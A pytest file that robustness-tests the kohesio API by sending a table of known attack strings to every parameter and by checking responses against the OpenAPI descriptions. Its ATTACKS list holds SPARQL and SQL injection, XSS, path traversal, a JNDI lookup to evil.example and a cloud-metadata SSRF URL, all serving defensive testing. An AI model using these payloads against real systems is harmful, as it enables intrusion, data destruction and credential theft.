"""Whatever a client sends in whatever parameter, the answer is an answer or a problem; it is never a failure.

Three ways: a table of known attacks in every parameter of every route, values that no number or box can be, and
requests that schemathesis makes up from the descriptions of the three APIs, the same ones each time.
"""

from __future__ import annotations

import asyncio
from typing import Any
from urllib.parse import quote

import pytest
import schemathesis
from hypothesis import HealthCheck, Phase, given, settings
from schemathesis import BaseSchema, GenerationMode
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi import checks
from starlette.types import ASGIApp, Message
from tests.asgi_client import Client
from tests.integration.kohesio_api.requests_of import READ, address

from kohesio.api.app import ENDPOINTS
from kohesio.api.features.answers import ENDPOINTS as FEATURES
from kohesio.api.kohesio.parameters import Kind
from kohesio.api.kohesio.routes import ROUTES, Route
from kohesio.api.openapi import plain_path
from kohesio.app import create_app
from kohesio.index.service import ServiceHolder
from kohesio.settings import Settings

ATTACKS = (
    "> } UNION { ?s ?p ?o } #",
    "Q2> . ?s ?p ?o } DELETE WHERE { ?s ?p ?o",
    "' OR '1'='1",
    '"; DROP TABLE operations; --',
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\r\nSet-Cookie: a=b",
    "\x00",
    "\ufeff\u202e\U0001f600",
    "NaN",
    "-Infinity",
    "1e999",
    "-1",
    "0x10",
    "٣",
    "9" * 400,
    "{}",
    '{"_southWest":{"lat":"NaN","lng":null},"_northEast":[]}',
    '{"_southWest":{"lat":1e999,"lng":0},"_northEast":{"lat":1,"lng":1}}',
    "[" * 1_000,
    "1,2,3,4,5",
    "nan,nan,nan,nan",
    "5,5,1,1",
    "http://169.254.169.254/latest/meta-data",
    "https://linkedopendata.eu/entity/Q2> ?x",
    "https://linkedopendata.eu/entity/Q99999999999999999999",
    ",,,,",
    "%",
    "AND OR NOT \" * (",
)  # fmt: skip

ROWS = list({one: (route, one.name) for route in reversed(ROUTES) for one in route.parameters}.values())
"""Every row of the parameter table, with a route that has it; routes that share a row read it alike."""


def _kind(route: Route, name: str) -> Kind:
    return next(one.kind for one in route.parameters if one.name == name)


def _status(client: Client, path: str, query: bytes) -> int:
    """The status of a request that no client library would send."""
    sent: list[int] = []

    async def receive() -> Message:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Message) -> None:
        if message["type"] == "http.response.start":
            sent.append(message["status"])

    scope = {"type": "http", "http_version": "1.1", "method": "GET", "scheme": "http", "path": path,
             "raw_path": path.encode(), "root_path": "", "query_string": query, "headers": [],
             "server": ("testserver", 80), "client": ("203.0.113.7", 4711)}  # fmt: skip
    asyncio.run(client._transport.app(scope, receive, send))  # type: ignore[arg-type]
    return sent[0]


@pytest.mark.parametrize(
    ("route", "name"),
    ROWS,
    ids=lambda value: value if isinstance(value, str) else value.name,
)
def test_an_attack_in_a_parameter_is_answered_or_refused(
    api: Client, holder: ServiceHolder, route: Route, name: str
) -> None:
    for attack in ATTACKS:
        answer = api.get(f"{address(route, holder).partition('?')[0]}?{name}={quote(attack)}")
        assert answer.status_code in {200, 303, 400, 401, 404}, (attack, answer.text)
        assert "set-cookie" not in answer.headers
        if answer.status_code >= 400:
            assert answer.headers["content-type"] == "application/problem+json"
            assert answer.json()["status"] == answer.status_code


@pytest.mark.parametrize(
    ("route", "name"),
    [(route, name) for route, name in ROWS if _kind(route, name) not in {Kind.TEXT, Kind.ID} and route in READ],
    ids=lambda value: value if isinstance(value, str) else value.name,
)
@pytest.mark.parametrize("value", ["NaN", "-1e400", "{}", "[1,2", "<x>"])
def test_what_no_value_of_its_kind_can_be_is_a_400_that_names_it(
    api: Client, holder: ServiceHolder, route: Route, name: str, value: str
) -> None:
    answer = api.get(address(route, holder, **{name: value}))
    assert answer.status_code == 400
    assert answer.json()["parameter"] == name


@pytest.mark.parametrize("route", READ, ids=lambda route: route.name)
def test_a_value_of_a_megabyte_is_refused_unread(api: Client, holder: ServiceHolder, route: Route) -> None:
    path = address(route, holder).partition("?")[0]
    names = [one.name for one in route.parameters] or ["keywords"]
    assert {_status(api, path, name.encode() + b"=" + b"a" * 2**20) for name in names} == {414}


def test_a_long_value_that_fits_the_address_is_a_400(api: Client) -> None:
    answer = api.get(f"/api/projects?keywords={'a' * 5_000}")
    assert (answer.status_code, answer.json()["parameter"]) == (400, "keywords")


def test_the_same_parameter_with_different_values_is_a_400(api: Client) -> None:
    assert api.get("/api/projects?country=SE&country=DE").status_code == 400
    assert api.get("/api/projects?country=SE&country=SE").status_code == 200


# -- schemathesis: requests made from the descriptions


@pytest.fixture(scope="session")
def served(small_site: Settings) -> ASGIApp:
    """All APIs in one application, as they are served."""
    return create_app(small_site)


@pytest.fixture(scope="session")
def kohesio_schema(served: ASGIApp) -> BaseSchema:
    return schemathesis.openapi.from_asgi("/api/openapi.json", served)


@pytest.fixture(scope="session")
def v1_schema(served: ASGIApp) -> BaseSchema:
    return schemathesis.openapi.from_asgi("/api/v1/openapi.json", served)


@pytest.fixture(scope="session")
def features_schema(served: ASGIApp) -> BaseSchema:
    return schemathesis.openapi.from_asgi("/ogc/api", served)


BOUNDED = settings(
    max_examples=6,
    derandomize=True,
    deadline=None,
    database=None,
    phases=(Phase.explicit, Phase.generate),
    suppress_health_check=list(HealthCheck),
)
"""The same few requests for each operation, every time."""

_CHECKS = [
    not_a_server_error,
    checks.status_code_conformance,
    checks.content_type_conformance,
    checks.response_schema_conformance,
]


def _held(schema: BaseSchema, path: str, mode: GenerationMode, method: str = "GET") -> None:
    """Ask an operation some requests made from its description, and hold the answers against it."""
    operation = schema[path][method]

    @BOUNDED
    @given(case=operation.as_strategy(generation_mode=mode))
    def asked(case: Any) -> None:
        case.validate_response(case.call(), checks=_CHECKS)

    asked()


@pytest.mark.parametrize(
    ("path", "mode"),
    [(route.path, mode) for route in ROUTES for mode in GenerationMode if route.parameters or mode.is_positive],
)
def test_the_compatible_api_keeps_to_its_description(
    kohesio_schema: BaseSchema, path: str, mode: GenerationMode
) -> None:
    _held(kohesio_schema, path, mode)


@pytest.mark.parametrize(("path", "method"), [(plain_path(each.path), each.method) for each in ENDPOINTS])
def test_the_api_keeps_to_its_description(v1_schema: BaseSchema, path: str, method: str) -> None:
    _held(v1_schema, path, GenerationMode.POSITIVE, method)


@pytest.mark.parametrize("path", ["/", *(plain_path(each.path) for each in FEATURES if "located" not in each.path)])
def test_the_api_for_maps_keeps_to_its_description(features_schema: BaseSchema, path: str) -> None:
    _held(features_schema, path, GenerationMode.POSITIVE)
